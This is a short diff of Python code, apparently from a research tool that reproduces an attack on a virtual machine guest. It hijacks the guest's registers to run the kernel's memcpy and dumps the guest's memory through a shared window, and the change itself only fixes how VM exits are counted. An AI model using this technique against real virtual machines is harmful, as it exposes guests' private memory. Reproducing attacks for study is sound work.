@@ -174,7 +174,7 @@ def linux_registers(hands: Hands, facts: Facts, log: Log) -> bytes:
     log.step(f"its disk was last asked for something at {shared:#x}: {window:#x} is shared as well")
     offset = code.code.index(_COPY)
     log.step(f"rep movsq in the kernel's memcpy: {kernel + offset:#x}", code.code[offset : offset + 16])
-    pieces = []
+    pieces, before = [], hands.victim.exits
     with _borrowed(registers):
         for at in range(0, MEMORY, _PIECE):
             registers["rip"], registers["rsp"], registers["rflags"] = kernel + offset, _NOWHERE, 2
@@ -182,9 +182,9 @@ def linux_registers(hands: Hands, facts: Facts, log: Log) -> bytes:
             registers["rcx"], registers["rdx"] = _PIECE // 8, 0
             hands.victim.run(blocks=None)  # to the fault: behind the copy, or where memory ends
             pieces.append(hands.memory.read(hands.memory.spa(window, _PIECE), _PIECE))
-    image = b"".join(pieces)
+    image, exits = b"".join(pieces), hands.victim.exits - before
     log.step(
-        f"{len(pieces)} exits, {len(image) // MIB} MiB: pages of zeros dark, others light",
+        f"{exits} exits, {len(image) // MIB} MiB: pages of zeros dark, others light",
         picture=Field(64, bytes(255 if any(piece) else 40 for piece in pieces)),
     )
     answer = hands.type(b"echo still $((6 * 7))")
@@ -193,7 +193,7 @@ def linux_registers(hands: Hands, facts: Facts, log: Log) -> bytes:
         raise Crashed("the guest does not go on")
     log.figure(
         "exits for each MiB",
-        len(pieces) / (len(image) / MIB),
+        exits / (len(image) / MIB),
         published="no figure in the stored text",
         source=_SOURCE,
     )
